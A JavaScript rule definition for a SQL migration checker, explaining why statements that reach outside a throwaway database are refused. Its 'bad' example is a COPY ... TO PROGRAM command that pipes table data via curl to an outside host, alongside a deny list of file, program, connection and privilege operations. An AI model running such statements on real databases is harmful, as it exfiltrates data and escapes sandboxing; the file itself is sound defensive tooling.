import { defineRule } from '../core/rule.js';

/** Reported by `check` for a statement that it did not run because it reaches outside the throwaway database. */
export default defineRule({
  meta: {
    id: 'unsafe-statement-refused',
    category: 'trace',
    severity: 'error',
    summary: 'A statement reaches outside the throwaway database, so check did not run it.',
    why:
      'A migration in a pull request is untrusted code, and check runs it on a database server. sql-preflight only ' +
      'runs what stays inside its own throwaway database: it does not run statements that act on other databases ' +
      '(CREATE, ALTER or DROP DATABASE), change the server (ALTER SYSTEM, LOAD, tablespaces), read or write its ' +
      'files or run programs (COPY ... PROGRAM, COPY with a file name, pg_read_file, lo_import, lo_export), connect ' +
      'elsewhere (dblink, postgres_fdw and other foreign data wrappers, foreign servers, user mappings, ' +
      'subscriptions), run code without a sandbox (untrusted languages, C functions), act on other sessions ' +
      '(pg_terminate_backend), switch roles (SET ROLE, SET SESSION AUTHORIZATION) or give roles server-wide powers ' +
      '(SUPERUSER, REPLICATION, BYPASSRLS, pg_execute_server_program and the like); function and DO bodies count ' +
      'where their SQL is static. The file stops at the refused statement, as it would at a failing one, so the ' +
      'statements after it were not checked on the database; the static findings still stand.',
    safeAlternative:
      'Keep such statements out of migrations: configure servers, extensions that reach out, and file loads outside ' +
      'the migration history, by an administrator. If a migration really needs one, lower this rule in ' +
      '.sql-preflight.yml to acknowledge it; the statement still does not run in check.',
    examples: {
      existing: 'CREATE TABLE orders (id bigint PRIMARY KEY);',
      bad: ["COPY orders TO PROGRAM 'curl --data-binary @- https://example.com';", 'CREATE EXTENSION dblink;'],
      good: ['CREATE EXTENSION IF NOT EXISTS pg_trgm;'],
    },
    references: [
      'https://www.postgresql.org/docs/current/sql-copy.html',
      'https://www.postgresql.org/docs/current/predefined-roles.html',
      'https://www.postgresql.org/docs/current/plpgsql-statements.html#PLPGSQL-STATEMENTS-EXECUTING-DYN',
    ],
  },
  create: () => ({}),
});
